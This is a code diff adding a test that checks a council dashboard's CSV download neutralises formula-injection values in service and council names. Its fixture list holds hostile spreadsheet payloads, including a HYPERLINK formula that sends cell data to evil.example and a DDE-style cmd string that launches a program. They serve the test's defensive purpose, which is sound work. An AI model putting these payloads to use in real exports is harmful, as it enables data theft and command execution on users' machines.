@@ -162,3 +162,26 @@ def test_the_cached_benchmark_follows_approvals_and_opt_outs(client_for, council
     assert "across the 5 councils that opted in" in client.get("/councils/ynys-mon/dashboard/").content.decode()
     services.council_set_benchmark(council=councils[0], user=manager, opt_in=False)
     assert "(4 of the 5 needed)" in client.get("/councils/ynys-mon/dashboard/").content.decode()
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(client_for, council, officer, manager, councillor):
+    """A service (or council) named like a formula is text in the download, whatever it starts with."""
+    names = [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTabbed",
+        "\rReturned",
+    ]
+    for name in names:
+        approved(council, Service.objects.create(council=council, name=name), "2026/27", officer, manager, 2)
+    Council.objects.filter(pk=council.pk).update(name="=1+1 Council")
+    response = client_for(councillor).get("/councils/ynys-mon/dashboard.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
+    scopes = {r[1] for r in rows if r[0] == "services"}
+    assert scopes == {"'" + name for name in names}
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [c for c in cells if c.startswith("-") and not c.replace("-", "", 1).replace(".", "", 1).isdigit()]
+    assert ["services", "'-2+3", "2026/27", "Can do", "33.3", "Weakness"] in rows  # the score stays a number
